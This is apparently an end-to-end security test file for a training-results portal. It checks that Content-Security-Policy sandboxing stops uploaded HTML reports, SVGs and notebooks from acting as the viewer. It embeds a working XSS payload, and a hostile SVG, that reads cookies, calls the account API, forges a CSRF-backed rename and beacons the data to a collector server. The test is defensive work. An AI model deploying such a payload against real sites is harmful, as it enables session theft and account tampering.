import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderReport } from '../../apps/trainer/src/report';
import { uploadResults } from '../../apps/trainer/src/upload';
import { METRICS, sql, writeTrainerOutput } from '../e2e/results-support';
import { SessionTokens } from '../../apps/control-plane/src/sessions/session-tokens';
import { startTestServer, TestServer, uploadApiUrl } from '../support/server';
import { buildPortalIfStale, launchBrowser, newContext, signUpInBrowser } from './support/browser';

// In Chromium: every page the portal origin serves works under its Content-Security-Policy (no
// violation is reported), and user content with script in it (an HTML report, an SVG) cannot
// read the viewer's cookies or call the API as the viewer, wherever the portal shows or serves it.

/** What hostile content tries: read the cookies and the viewer's account, rename the result, and report all of it to a collector. */
const attack = (collector: string, resultId: string) => `
(async () => {
  const leak = (what, value) => { try { new Image().src = '${collector}/?' + what + '=' + encodeURIComponent(value); } catch {} ; fetch('${collector}/?' + what + '=' + encodeURIComponent(value), { mode: 'no-cors' }).catch(() => {}); };
  leak('ran', location.href);
  try { leak('cookie', document.cookie); } catch (e) { leak('cookie-error', String(e)); }
  try { leak('me', await (await fetch('/api/auth/me', { credentials: 'include' })).text()); } catch (e) { leak('me-error', String(e)); }
  try {
    const csrf = (document.cookie.match(/trialhub_csrf=([^;]+)/) || [])[1] || '';
    const r = await fetch('/api/results/${resultId}', { method: 'PATCH', credentials: 'include', headers: { 'content-type': 'application/json', 'x-csrf-token': csrf }, body: JSON.stringify({ title: 'pwned' }) });
    leak('rename', r.status);
  } catch (e) { leak('rename-error', String(e)); }
})();`;

/**
 * Chromium reports every CSP refusal on the console; a page of ours must not cause any. Those in
 * the sandboxed report frame are kept apart: for hostile content they are the point.
 */
function watchCsp(page: Page): { ours: string[]; inReports: string[] } {
  const found = { ours: [] as string[], inReports: [] as string[] };
  page.on('console', (m) => {
    if (!/Content Security Policy|Refused to|Blocked script/i.test(m.text())) return;
    (/\/report$/.test(m.location().url) ? found.inReports : found.ours).push(`${page.url()}: ${m.text()}`);
  });
  return found;
}

describe('content security in Chromium', () => {
  let browser: Browser;
  let server: TestServer;
  let collector: Server;
  let collectorUrl: string;
  const collected: string[] = [];
  let runDir: string;

  beforeAll(async () => {
    buildPortalIfStale();
    collector = createServer((req, res) => {
      collected.push(req.url ?? '');
      res.end();
    });
    await new Promise<void>((r) => collector.listen(0, '127.0.0.1', r));
    collectorUrl = `http://127.0.0.1:${(collector.address() as { port: number }).port}`;
    runDir = mkdtempSync(join(tmpdir(), 'trialhub-csp-run-'));
    await writeTrainerOutput(runDir);
    server = await startTestServer();
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    collector?.close();
    if (runDir) rmSync(runDir, { recursive: true, force: true });
  });

  it('the portal, a result, the share page with its notebook and report, and /api/docs all work with no CSP violation; hostile report, SVG and notebook content run nothing as the viewer', { timeout: 120_000 }, async () => {
    const { page, errors, context } = await newContext(browser, server.url);
    const violations = watchCsp(page);
    await signUpInBrowser(page, 'csp@example.com');
    const { user } = await page.evaluate(() => fetch('/api/auth/me').then((r) => r.json()));
    const trial = await page.evaluate(() => fetch('/api/trial').then((r) => r.json()));
    const [row] = await sql<{ id: string }>(
      server,
      `INSERT INTO sessions (user_id, trial_id, profile_name, state, generation, mode, queued_at, started_at, ready_at, claimed_by, claimed_until)
       VALUES ($1, $2, 'cpu', 'ready', 1, 'jupyter', now(), now(), now(), 'browser-test', now() + interval '1 hour') RETURNING id`,
      [user.id, trial.id],
    );
    const uploadToken = server.app.get(SessionTokens).uploadToken(row.id, 1);
    // First a result with the trainer's genuine report, then one with hostile files that name it (their script tries to rename it).
    const history = [1, 2, 3].map((i) => ({ step: i * 100, trainAccuracy: 0.6 + i * 0.1, validationAccuracy: 0.55 + i * 0.1, crossEntropy: 0.8 / i }));
    writeFileSync(join(runDir, 'report.html'), renderReport({ title: 'Genuine report', metrics: METRICS, history, confusion: { classes: METRICS.classes, matrix: [[6, 1], [1, 5]] }, beforeAfter: [] }));
    const { resultId } = await uploadResults({ dir: runDir, uploadUrl: uploadApiUrl(server), token: uploadToken, runName: 'csp-run', title: 'CSP run' });
    writeFileSync(join(runDir, 'report.html'), `<!doctype html><title>report</title><h1>Report</h1><img src="x" onerror="document.title='onerror ran'"><script>${attack(collectorUrl, resultId)}</script>`);
    writeFileSync(join(runDir, 'evil.svg'), `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='svg ran'"><script>${attack(collectorUrl, resultId).replace(/</g, '&lt;')}</script></svg>`);
    await uploadResults({ dir: runDir, uploadUrl: uploadApiUrl(server), token: uploadToken, runName: 'csp-run-2', title: 'CSP run 2' });
    const [second] = await sql<{ id: string }>(server, `SELECT id FROM results WHERE title = 'CSP run 2'`);

    // The portal's own pages.
    await page.goto('/results');
    await page.getByRole('link', { name: 'CSP run 2' }).click();
    await page.getByRole('heading', { name: 'CSP run 2' }).waitFor();
    await page.locator('svg').first().waitFor();
    const token = (await page.evaluate(async (id) => {
      const csrf = document.cookie.match(/trialhub_csrf=([^;]+)/)![1];
      return (await fetch(`/api/results/${id}/shares`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-csrf-token': csrf }, body: '{}' })).json();
    }, second.id)).token as string;

    // The trainer's own report, opened from its share link (/share/<token>/report, under a sandbox CSP), works: charts drawn, styles applied, nothing refused.
    const genuine = (await page.evaluate(async (id) => {
      const csrf = document.cookie.match(/trialhub_csrf=([^;]+)/)![1];
      return (await fetch(`/api/results/${id}/shares`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-csrf-token': csrf }, body: '{}' })).json();
    }, resultId)).token as string;
    await page.goto(`/share/${genuine}/report`);
    await page.getByRole('heading', { name: 'Genuine report' }).waitFor();
    expect(await page.locator('svg path').count()).toBeGreaterThanOrEqual(3);
    expect(await page.locator('body').evaluate((b) => getComputedStyle(b).maxWidth)).toBe('960px');
    expect(await page.evaluate(() => self.origin)).toBe('null');
    expect(violations.inReports, violations.inReports.join('\n')).toEqual([]);

    // The share page, seen by the signed-in owner (the most to lose): notebook rendered, the report not framed, no script of theirs runs.
    await page.goto(`/share/${token}`);
    await page.getByRole('heading', { name: 'CSP run 2' }).waitFor();
    // The notebook is collapsed by default: open it.
    await page.locator('details.notebook summary', { hasText: 'Notebook: walkthrough.ipynb' }).click();
    expect(await page.locator('.notebook img').count()).toBeGreaterThan(0);
    expect(await page.locator('.notebook script').count()).toBe(0);
    expect(await page.locator('iframe').count()).toBe(0);
    // The hostile report opened at its own address runs in an opaque origin: its script reaches nothing of the viewer's.
    await page.goto(`/share/${token}/report`);
    expect(await page.evaluate(() => self.origin)).toBe('null');
    expect(await page.evaluate(() => document.title)).toBe('report');

    // The same files opened directly, by the owner and through the share link: downloads, never pages.
    for (const path of [`/api/results/${second.id}/files/report.html`, `/api/results/${second.id}/files/evil.svg`, `/share/${token}/files/report.html`, `/share/${token}/files/evil.svg`]) {
      const tab = await context.newPage();
      const download = tab.waitForEvent('download');
      await tab.goto(path).catch(() => undefined); // Chromium aborts the navigation when it becomes a download.
      expect((await download).suggestedFilename()).toMatch(/^(report\.html|evil\.svg)$/);
      await tab.close();
    }

    // /api/docs: Swagger UI renders from its own files.
    await page.goto('/api/docs');
    await page.locator('.swagger-ui .info .title').getByText('Trialhub API').waitFor();
    await page.locator('.opblock').first().waitFor();

    await new Promise((r) => setTimeout(r, 500)); // let any beacon that was sent arrive
    expect(collected, 'hostile content ran and reached the collector').toEqual([]);
    expect((await sql<{ title: string }>(server, `SELECT title FROM results WHERE id = $1`, [resultId]))[0].title).toBe('CSP run');
    expect(violations.ours, violations.ours.join('\n')).toEqual([]);
    expect(violations.inReports.length, 'the hostile report was refused its script').toBeGreaterThan(0);
    expect(errors).toEqual([]);
    await context.close();
  });
});
